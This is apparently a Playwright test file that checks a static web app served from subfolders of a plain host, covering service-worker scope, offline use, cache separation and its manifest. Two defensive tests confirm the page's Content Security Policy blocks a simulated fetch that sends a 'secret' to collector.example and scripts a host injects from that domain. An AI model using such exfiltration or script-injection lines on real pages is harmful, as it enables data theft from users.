/**
 * The same build in a folder of a plain static host, which sends no header of ours: what docs/hosting.md promises.
 * The specs beside this one run at the root of a host that sends all of them.
 */
import { createReadStream, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize } from 'node:path';

import { expect, test as base, wholeBrowser } from './fixtures.ts';

const FOLDERS = ['/some/path/', '/another/'];
const TYPES: Readonly<Record<string, string>> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.json': 'application/json',
  '.svg': 'image/svg+xml',
  '.png': 'image/png',
  '.webmanifest': 'application/manifest+json',
};

/** Files under the folders, 404 for everything else, and what was asked for. */
function plainHost(dist: string, asked: string[]): Server {
  return createServer(({ url = '/' }, response) => {
    const { pathname } = new URL(url, 'http://host');
    asked.push(pathname);
    const folder = FOLDERS.find((known) => pathname.startsWith(known));
    const path = folder && normalize(join(dist, pathname.slice(folder.length) || 'index.html'));
    if (path === undefined || !statSync(path, { throwIfNoEntry: false })?.isFile()) {
      response.writeHead(404).end('Not found');
      return;
    }
    response.writeHead(200, { 'Content-Type': TYPES[extname(path)] ?? 'application/octet-stream' });
    createReadStream(path).pipe(response);
  });
}

interface Host {
  readonly origin: string;
  readonly asked: string[];
}

const test = base.extend<object, { dist: string; host: Host }>({
  dist: [process.env['E2E_DIST'] ?? 'dist', { scope: 'worker', option: true }],
  host: [
    async ({ dist }, provide) => {
      const asked: string[] = [];
      const server = plainHost(dist, asked);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      await provide({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
      server.closeAllConnections();
      server.close();
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ host }, provide) => provide(`${host.origin}${FOLDERS[0]}`),
});
test.use(wholeBrowser);
test.use({ expectedErrors: [/Failed to load resource|ERR_INTERNET_DISCONNECTED/] });

test('a build runs from any folder of a static host, and asks for nothing outside it', async ({ page, host }) => {
  host.asked.length = 0;
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.goto('./#/paynet/auth');
  await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
  await expect(page.getByRole('status', { name: 'hash' })).toHaveText(/^[0-9a-f]{32}$/);
  await page.goto('./#/doctor');
  await expect(page.getByRole('heading', { level: 1, name: 'Doctor' })).toBeVisible();
  expect(host.asked.filter((path) => !path.startsWith('/some/path/'))).toEqual([]);
  const scope = await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
  expect(scope).toBe(`${host.origin}/some/path/`);
});

test('its sandbox answers in the same folder, through the worker', async ({ page, host }) => {
  await page.goto('./#/aeterna/request');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
  const response = page.waitForResponse(/\/sandbox\/aeterna\/balance$/);
  await page.getByRole('button', { name: 'Send to sandbox' }).click();
  expect((await response).url()).toBe(`${host.origin}/some/path/sandbox/aeterna/balance`);
  expect((await response).fromServiceWorker()).toBe(true);
  await expect(page.getByRole('status', { name: 'Sandbox answer' })).toContainText('Accepted');
});

test('it works there without a network', async ({ page, context }) => {
  await page.goto('./');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await page.reload();
  await page.goto('./#/aeterna/request');
  await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
  await page.getByRole('button', { name: 'Send to sandbox' }).click();
  await expect(page.getByRole('status', { name: 'Sandbox answer' })).toContainText('Accepted');
});

test('two copies on one host keep their files apart', async ({ page, host }) => {
  for (const folder of FOLDERS) {
    await page.goto(`${host.origin}${folder}`);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  }
  const kept = await page.evaluate(async () => {
    const names = await caches.keys();
    return Promise.all(
      names.map(async (name) => {
        const paths = (await (await caches.open(name)).keys()).map(({ url }) => new URL(url).pathname);
        return { name, index: paths.filter((path) => path.endsWith('/')) };
      }),
    );
  });
  expect(kept.flatMap(({ index }) => index.join(' ')).toSorted()).toEqual(['/another/', '/some/path/']);
});

test.describe('without headers', () => {
  test.use({ expectedErrors: [/Content Security Policy|policy violation/] });

  test('the policy in the page stops what tries to leave', async ({ page }) => {
    const response = await page.goto('./');
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    await page.evaluate(() => fetch('https://collector.example/?secret').catch(() => {}));
    await expect(page.getByRole('status', { name: 'Requests that left this page' })).toHaveText(
      '0 requests to other sites; 1 request stopped',
    );
  });
});

test.describe('a host that adds scripts', () => {
  // Chromium names a request that the policy stops before it is sent; `asked` has those that are.
  test.use({ expectedErrors: [/Content Security Policy|policy violation|collector\.example\/a\.js/] });

  test('the policy in the page stops them', async ({ page }) => {
    const asked: string[] = [];
    await page.route('https://collector.example/**', (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const added =
      '<script>window.added = true</script><script src="https://collector.example/a.js"></script><script type="module" src="data:text/javascript,window.added=true"></script>';
    await page.route(/\/some\/path\/$/, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${added}</body>`) });
    });
    await page.goto('./');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.locator('script[src*="collector.example"]').count(), 'the host added them').toBe(1);
    expect(await page.evaluate(() => 'added' in window)).toBe(false);
    expect(asked).toEqual([]);
  });
});

test('the manifest makes it an app of that folder, with icons that are there', async ({ page, request, context }) => {
  await page.goto('./');
  const href = await page.locator('link[rel=manifest]').evaluate((link: HTMLLinkElement) => link.href);
  interface Manifest {
    readonly icons: readonly {
      readonly src: string;
      readonly sizes: string;
      readonly purpose: string;
      readonly type: string;
    }[];
    readonly start_url: string;
    readonly display: string;
  }
  const manifest = (await (await request.get(href)).json()) as Manifest;
  expect(new URL(manifest.start_url, href).pathname).toBe('/some/path/');
  expect(manifest.display).toBe('standalone');
  expect(manifest.icons.map(({ sizes, purpose }) => `${sizes} ${purpose}`)).toEqual([
    'any any',
    '192x192 any',
    '512x512 any',
    '512x512 maskable',
  ]);
  for (const { src, type, sizes } of manifest.icons) {
    const icon = await request.get(new URL(src, href).href);
    expect(icon.ok(), src).toBe(true);
    expect(icon.headers()['content-type']).toBe(type);
    // Width and height of a PNG stand at byte 16 (PNG section 11.2.2).
    if (type === 'image/png')
      expect(`${(await icon.body()).readUInt32BE(16)}x${(await icon.body()).readUInt32BE(20)}`).toBe(sizes);
  }
  // Chromium's own judgement of what it would install.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const session = await context.newCDPSession(page);
  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
  // A test browser's profile is a private one, and nothing is installed from those.
  expect(installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito')).toEqual([]);
});
